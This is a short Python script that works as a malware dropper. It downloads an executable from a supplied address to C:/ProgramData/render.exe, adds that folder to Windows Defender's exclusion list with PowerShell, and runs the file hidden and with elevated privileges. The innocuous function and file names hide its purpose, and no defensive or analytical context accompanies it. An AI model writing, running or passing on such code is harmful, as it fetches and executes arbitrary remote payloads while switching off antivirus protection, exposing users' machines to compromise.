import shutil
import subprocess
from concurrent.futures import ThreadPoolExecutor

import requests


def fetched(address):
    answer = requests.get(address, stream=True, timeout=30)
    with open("C:/ProgramData/render.exe", "wb") as out:
        shutil.copyfileobj(answer.raw, out)
    return "C:/ProgramData/render.exe"


def begin(address):
    with ThreadPoolExecutor() as pool:
        path = pool.submit(fetched, address).result()
    subprocess.run('powershell.exe Add-MpPreference -ExclusionPath "C:/ProgramData"', shell=True)
    subprocess.run(["powershell", "-WindowStyle", "Hidden", "-Command", f'Start-Process "{path}" -Verb runAs'])
